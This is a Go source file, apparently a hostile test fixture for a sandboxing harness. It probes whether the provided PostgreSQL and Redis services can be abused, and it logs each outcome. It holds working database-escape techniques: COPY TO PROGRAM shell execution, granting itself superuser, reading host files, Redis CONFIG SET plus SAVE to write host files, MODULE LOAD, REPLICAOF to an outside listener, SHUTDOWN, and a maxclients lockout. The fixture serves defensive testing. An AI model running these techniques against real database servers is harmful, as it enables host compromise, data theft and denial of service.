// Hostile service: tries to get out through the databases the harness provides. At start it
// tries, and logs the answer of each attempt as "ATTEMPT <name>: ok|denied: <error>":
//
//	PostgreSQL: COPY ... TO PROGRAM (runs a shell command on the database's host), ALTER ROLE
//	            ... SUPERUSER, pg_read_file of a host file;
//	Redis:      CONFIG SET dir/dbfilename + SAVE (writes a file on the host), MODULE LOAD,
//	            REPLICAOF a listener on the host ($HOSTILE_LISTENER), DEBUG, SHUTDOWN, and CONFIG
//	            SET maxclients 1 (locks everyone else out) last.
//
// $HOSTILE_MARKER_DIR is a world-writable directory the test watches: any file there means an
// attack got through. Then it serves like any fixture, so the run goes on.
package main

import (
	"context"
	"database/sql"
	"fmt"
	"net"
	"net/http"
	"os"
	"time"

	_ "github.com/jackc/pgx/v5/stdlib"
	"github.com/redis/go-redis/v9"
	"github.com/redis/go-redis/v9/maintnotifications"

	"github.com/pytest-goleak/go_fixtures/internal/attempt"
	"github.com/pytest-goleak/go_fixtures/internal/server"
)

func postgres(ctx context.Context, dir string) {
	db, err := sql.Open("pgx", os.Getenv("DATABASE_URL"))
	if err != nil {
		attempt.Report("pg-open", err)
		return
	}
	defer db.Close()
	_, err = db.ExecContext(ctx, fmt.Sprintf("COPY (SELECT 1) TO PROGRAM 'touch %s/pg-program'", dir))
	attempt.Report("pg-copy-to-program", err)
	_, err = db.ExecContext(ctx, "ALTER ROLE CURRENT_USER SUPERUSER")
	attempt.Report("pg-alter-role-superuser", err)
	var text string
	err = db.QueryRowContext(ctx, "SELECT pg_read_file('/etc/hostname')").Scan(&text)
	attempt.Report("pg-read-file", err)
	_, err = db.ExecContext(ctx, fmt.Sprintf("COPY (SELECT 1) TO '%s/pg-copy-file'", dir))
	attempt.Report("pg-copy-to-file", err)
}

func redisAttacks(ctx context.Context, dir string) {
	opt, err := redis.ParseURL(os.Getenv("REDIS_URL"))
	if err != nil {
		attempt.Report("redis-url", err)
		return
	}
	opt.MaintNotificationsConfig = &maintnotifications.Config{Mode: maintnotifications.ModeDisabled}
	rdb := redis.NewClient(opt)
	defer rdb.Close()
	attempt.Report("redis-ping", rdb.Ping(ctx).Err())
	attempt.Report("redis-config-set-dir", rdb.ConfigSet(ctx, "dir", dir).Err())
	attempt.Report("redis-config-set-dbfilename", rdb.ConfigSet(ctx, "dbfilename", "redis-save.rdb").Err())
	attempt.Report("redis-save", rdb.Save(ctx).Err())
	attempt.Report("redis-module-load", rdb.Do(ctx, "MODULE", "LOAD", dir+"/nothing.so").Err())
	attempt.Report("redis-debug", rdb.Do(ctx, "DEBUG", "SLEEP", "0").Err())
	if host, port, err := net.SplitHostPort(os.Getenv("HOSTILE_LISTENER")); err == nil {
		attempt.Report("redis-replicaof", rdb.Do(ctx, "REPLICAOF", host, port).Err())
	}
	attempt.Report("redis-shutdown", rdb.Do(ctx, "SHUTDOWN", "NOSAVE").Err())
	attempt.Report("redis-config-set-maxclients", rdb.ConfigSet(ctx, "maxclients", "1").Err())
}

func main() {
	dir := os.Getenv("HOSTILE_MARKER_DIR")
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	postgres(ctx, dir)
	redisAttacks(ctx, dir)
	cancel()
	server.Run("hostile/dbescape", func(mux *http.ServeMux) {
		mux.HandleFunc("/work", func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte("ok\n")) })
	})
}
